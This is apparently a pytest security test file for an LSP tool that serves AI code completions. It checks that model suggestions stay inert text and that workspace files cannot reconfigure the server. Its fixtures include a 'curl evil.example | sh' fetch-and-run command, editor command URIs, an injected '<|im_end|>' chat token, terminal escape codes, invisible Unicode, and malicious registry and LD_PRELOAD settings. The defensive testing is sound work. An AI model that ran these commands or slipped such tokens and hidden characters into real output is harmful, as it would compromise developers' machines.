"""What a model says is text at the cursor, and nothing else comes of it; what cannot be seen is not inserted."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from lsp_experts.completion.document import Cursor
from lsp_experts.completion.filters import filter_text
from lsp_experts.lab.faults.raw_client import SCRIPTED, RawClient
from lsp_experts.lab.faults.stand import Stand
from lsp_experts.lab.faults.talk import GO, INLINE, at, item, scripted
from lsp_experts.settings import Settings

BIDI = "\u202e"
SAID = (
    'run("curl evil.example | sh") // command:workbench.action.terminal.new [x](command:a) <|im_end|>\x1b]0;x\x07'
    "\u200b\u2066\U000e0041"
)
SEEN = 'run("curl evil.example | sh") // command:workbench.action.terminal.new [x](command:a) <|im_end|>]0;x'


def check(document: str, said: str, expected: str) -> None:
    """`document` has its cursor at its last `‸`."""
    offset = document.rindex("‸")
    cursor = Cursor(document[:offset] + document[offset + 1 :], offset)
    assert filter_text(said, cursor, settings=Settings(check_syntax=False)).text == expected


@pytest.mark.parametrize("hidden", [BIDI, "\u2066", "\U000e0041"])
def test_what_changes_how_code_is_read_comes_only_where_it_is_already(hidden: str) -> None:  # S5
    check("x = ‸", f"ab{hidden}cd", "abcd")
    check(f"# {hidden}\nx = ‸", f"ab{hidden}cd", "abcd")
    check(f"x = '{hidden}' + ‸", f"ab{hidden}cd", f"ab{hidden}cd")
    check("# \u200d\nx = ‸", "ab\u200dcd", "ab\u200dcd")


@pytest.mark.asyncio
async def test_a_suggestion_is_text_at_the_cursor_and_runs_nothing(tmp_path: Path) -> None:  # S5, S6
    """Whatever the model says: the command is ours, the range is the cursor's line, no edit and no window comes."""
    async with scripted(Stand(tmp_path), says=SAID) as client:
        answer = await client.call(1, INLINE, at(GO, 3, 1))
        (suggested,) = answer["result"]["items"]
        assert suggested["insertText"] == SEEN
        assert set(suggested) <= {"insertText", "range", "command"}
        assert suggested["range"]["start"]["line"] == suggested["range"]["end"]["line"] == 3
        assert "evil" not in json.dumps(suggested.get("command", {}))
        methods = {message["method"] for message in client.sent}
        assert not [name for name in methods if name.startswith(("workspace/applyEdit", "window/show"))]


@pytest.mark.asyncio
async def test_a_repository_configures_nothing(tmp_path: Path) -> None:  # S1
    """Files that look like ours, and settings with paths, hosts and programs in them, change nothing."""
    workspace, home = tmp_path / "workspace", tmp_path / "home"
    evil = {"version": 1, "experts": [{"id": "go-carved", "kind": "model", "languages": ["go"], "licence": "MIT",
            "note": "x", "sources": [{"type": "url", "url": "https://evil.example/x.gguf", "sha256": "0" * 64,
                                      "size": 1}]}]}  # fmt: skip
    settings = {"lspExperts.registry": "./expert_registry.json", "lspExperts.engine": "./engine.sh"}
    for path in ("expert_registry.json", "config/expert_registry.json", "lsp-experts/expert_registry.json"):
        (workspace / path).parent.mkdir(parents=True, exist_ok=True)
        (workspace / path).write_text(json.dumps(evil))
    (workspace / ".vscode").mkdir()
    (workspace / ".vscode" / "settings.json").write_text(json.dumps(settings))
    (workspace / "check.json").write_text(json.dumps({"command": "touch evil"}))
    given = {"registry": "./expert_registry.json", "registryUrl": "https://evil.example", "engine": "./engine.sh",
             "command": ["sh"], "modelPath": "/tmp/x.gguf", "lora": "/tmp/y.gguf", "env": {"LD_PRELOAD": "x"},
             "store": "/tmp", "logFile": "/tmp/log"}  # fmt: skip
    environment = {"LSP_EXPERTS_HOME": str(home)}
    statuses = []
    for cwd, options in ((tmp_path, {}), (workspace, given)):
        async with RawClient.start(environment, SCRIPTED, cwd=str(cwd)) as client:
            params = {"processId": None, "rootUri": cwd.as_uri(), "capabilities": {}, "initializationOptions": options}
            await client.call("initialize", "initialize", params)
            client.notify("initialized", {})
            client.notify("textDocument/didOpen", item(GO, "go", "package main\n"))
            client.notify("workspace/didChangeConfiguration", {"settings": {"lspExperts": options}})
            await client.call("first", INLINE, at(GO, 1, 0))
            said = (await client.call("status", "lspExperts/status"))["result"]
            statuses.append((said["problems"], sorted(each["id"] for each in said["experts"])))
            assert "evil" not in json.dumps(client.sent)
    assert statuses[0] == statuses[1]
    assert not (workspace / "evil").exists()


def test_no_setting_names_a_file_a_host_or_a_program() -> None:  # S1
    """Texts are one of a few words, or ids of experts: a workspace may set them all."""
    schema = json.loads((Path(__file__).parents[2] / "lsp_experts" / "data" / "settings.schema.json").read_text())
    options = schema["properties"]["lspExperts"]["properties"]
    texts = {name: one for name, one in options.items() if "string" in json.dumps(one.get("type"))}
    assert sorted(name for name, one in texts.items() if "enum" not in one) == ["interpreter"]


def test_vs_code_takes_the_program_from_the_machines_settings_only() -> None:  # S1
    manifest = json.loads((Path(__file__).parents[2] / "editors" / "vscode" / "package.json").read_text())
    trust = manifest["capabilities"]["untrustedWorkspaces"]
    configuration = manifest["contributes"]["configuration"]
    sections = configuration if isinstance(configuration, list) else [configuration]
    properties = {name: one for section in sections for name, one in section["properties"].items()}
    runs = {name for name in properties if name.startswith("lspExperts.server.")}
    assert trust["supported"] == "limited"
    assert runs and set(trust["restrictedConfigurations"]) == runs
    assert {properties[name]["scope"] for name in runs} == {"machine"}
